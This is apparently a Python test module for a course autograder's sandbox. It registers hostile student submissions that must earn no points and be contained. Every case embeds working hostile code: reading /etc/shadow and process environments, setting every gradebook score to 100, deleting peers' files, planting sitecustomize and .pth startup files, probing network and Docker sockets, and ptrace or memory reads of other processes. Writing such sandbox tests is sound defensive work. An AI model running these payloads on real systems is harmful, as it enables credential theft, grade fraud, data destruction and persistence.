"""Cheats that reach out of the student's process: for bytes, files, sockets and the next kernel.

None has an answer, and none earns a point. What it finds it prints: the feedback must not hold it.
"""

from hostile_case import ESCAPED, UNEARNED, Register
from weather_source import blank

OUTSIDE = Register("cheat")


def cheat(**changed):
    """Enter a case that earns nothing."""
    return OUTSIDE.case(**{"scores": UNEARNED, **changed})


@cheat(status="flagged", says="ended the process")
def forged_bytes():
    """Writes forged replies and garbage to every open descriptor."""
    forge = """import os, struct
def forge(*args):
    reply = b'{"n":0,"k":"done","v":3.0,"changes":null,"printed":[],"warned":[],"a":[]}'
    for body in (reply, b"\\xff" * 64, b"", b"[" * 9999):
        for fd in range(3, 256):
            for form, n in ((">I", len(body)), (">Q", len(body)), (">I", 2 ** 32 - 1)):
                head = struct.pack(form, n)
                try: os.write(fd, head + body)
                except OSError: pass
    return 3.0"""
    return blank(
        forge, anomaly="def anomaly(x): return forge()", root="def find_root(f, low, high): return forge()"
    )


@cheat(status="flagged", says="ended the process")
def answers_for_the_judge():
    """Replaces the code of the student's half: from the first test on it answers what cannot be read."""
    replace = """import threading, time
import dlcourse.grading.split.student as student
from dlcourse.grading.split import wire
known = student.Student.packed
def liar(self, n, reply, heard):
    if not isinstance(reply[1], float): return known(self, n, reply, heard)
    head = {"n": n, "k": "done", "v": ["y", "bool"], "changes": [[0, 1]], "printed": 3, "warned": [], "a": []}
    return wire.pack(head, [])
student.Student.packed = liar"""
    return blank(replace, **{"anomaly": "def anomaly(x): return 1.0", "load": "def load(path): return 1.0"})


@cheat()
def reads_everything():
    """Looks for the source, the solutions, the gradebook and peers wherever it can read."""
    read = """import os, glob, sys
words = (b"BEGIN HID" + b"DEN TESTS", b"quo" + b"kka", b"nar" + b"whal")
found, walked = [], 0
for top in ("/", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt", "/var", os.getcwd(), os.pardir):
    for folder, names, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/lib", "/nix", sys.prefix, sys.base_prefix)):
            names.clear()
            continue
        walked += len(files)
        if walked > 20_000: break
        for name in files:
            if name.endswith((".ipynb", ".db", ".json", ".csv", ".md")):
                try:
                    with open(os.path.join(folder, name), "rb") as file: text = file.read(300_000)
                    if any(word in text for word in words): found.append((folder, name, text[:3000]))
                except OSError: pass
print(found)"""
    return blank(read)


@cheat()
def reads_the_environment():
    """Prints the environment, the command line, the mounts, and those of all other processes."""
    read = """import os, glob
print(dict(os.environ))
for path in ["/proc/self/environ", "/proc/1/environ", "/proc/self/mountinfo", "/etc/passwd",
             "/etc/hostname", "/etc/resolv.conf", "/etc/shadow",
             *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/*/cwd/*")]:
    try: print(path, open(path, "rb").read()[:3000])
    except OSError: pass"""
    return blank(read)


@cheat()
def opens_the_gradebook():
    """Sets all points in every gradebook that it finds, and holds a lock on it."""
    write = """import glob, os, sqlite3, fcntl
tops = "/tmp/* /tmp/*/* /tmp/*/*/* /home/* /root/*".split()
spots = [os.path.join(top, name) for top in (*tops, "..", "../..", "../../..", "../../../..")
         for name in ("gradebook.db", "*/gradebook.db")]
for path in {hit for spot in spots for hit in glob.glob(spot)}:
    try:
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set auto_score = 100")
        book.commit()
        file = open(path, "rb+"); fcntl.flock(file, fcntl.LOCK_EX)
        book.execute("begin exclusive")
        if os.fork() == 0:
            import time; time.sleep(86400)
    except Exception: pass"""
    return blank(write)


@cheat()
def changes_peers():
    """Overwrites, renames and deletes whatever of other students it can write."""
    write = f"""import glob, os, shutil
near = glob.glob("../../*/*/*") + glob.glob("../*/*")
for path in near + glob.glob("/tmp/**/submitted/*/*/*", recursive=True):
    if os.getcwd() in os.path.abspath(path): continue
    for act in (lambda: open(path, "w").write("gone"), lambda: os.rename(path, path + "{ESCAPED}"),
                lambda: os.remove(path)):
        try: act()
        except OSError: pass"""
    return blank(write)


@cheat()
def poisons_the_next_kernel():
    """Writes start-up files: .ipython, sitecustomize, usercustomize, .pth, .pythonrc, jupyter's config."""
    code = "import builtins; builtins.poisoned = True"
    poison = f"""import os, site, sys, sysconfig
home, code = os.path.expanduser("~"), {code!r}
people = os.listdir("/home") if os.path.isdir("/home") else []
real = ["/root", "/home", *[os.path.join("/home", name) for name in people]]
for top in [home, os.environ.get("HOME", "."), *real]:
    for path in (".ipython/profile_default/startup/00-{ESCAPED}.py", ".jupyter/jupyter_config.py",
                 ".ipython/profile_default/ipython_config.py", ".pythonrc.py", ".config/{ESCAPED}",
                 ".local/lib/{ESCAPED}.pth"):
        try:
            os.makedirs(os.path.dirname(os.path.join(top, path)), exist_ok=True)
            open(os.path.join(top, path), "a").write(code)
        except OSError: pass
places = [site.getusersitepackages(), sysconfig.get_paths()["purelib"], *sys.path]
for folder in [*places, "/etc/ipython/startup", "/usr/local/share/jupyter"]:
    for name in ("{ESCAPED}.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            path = os.path.join(folder or ".", name)
            if not os.path.exists(path): open(path, "w").write(code + "#{ESCAPED}")
        except OSError: pass"""
    return blank(poison)


@cheat(unseen=("REACHED",))
def uses_the_network():
    """Asks for other machines: by name, by number, by vsock and raw packets; and for Docker's socket."""
    ask = f"""import socket
places = [(socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 22)),
          (socket.AF_INET6, ("::1", 22)), (40, (2, 22)), (socket.AF_UNIX, "/run/docker.sock"),
          (17, ("lo", 0))]
for family, place in places:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as one:
                one.settimeout(0.5)
                one.connect(place)
                one.send(b"{ESCAPED}")
                print("REACH" + "ED", family, kind)
        except Exception: pass
try: print("REACH" + "ED", socket.gethostbyname("example.com"))
except OSError: pass"""
    return blank(ask)


@cheat(unseen=("REACHED",))
def reads_memory_of_others():
    """ptrace, process_vm_readv, /proc/PID/mem, pidfd_getfd, open descriptors of its parent."""
    read = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid(), *range(2, 200)} - {os.getpid()}:
    libc.ptrace(16, pid, 0, 0)
    opened = libc.syscall(434, pid, 0)
    for number, *args in ((310, pid, 0, 0, 0, 0, 0), *((438, opened, fd, 0) for fd in range(10))):
        if libc.syscall(number, *args) >= 0: print("REACH" + "ED", number, pid)
    for name in ("mem", "fd/3", "environ", "root/etc/shadow"):
        try: print("REACH" + "ED", open(f"/proc/{pid}/{name}", "rb").read(100))
        except (OSError, ValueError): pass"""
    return blank(read)


@cheat(unseen=("REACHED",))
def nests_namespaces():
    """Makes namespaces, mounts, io_uring, bpf, keys and user faults of its own."""
    make = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    if libc.unshare(flags) == 0: print("REACH" + "ED unshare", hex(flags))
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: print("REACH" + "ED mount")
for number in (425, 321, 250, 298, 323, 304):
    if libc.syscall(number, 1, 0, 0, 0, 0) >= 0: print("REACH" + "ED", number)"""
    return blank(make)
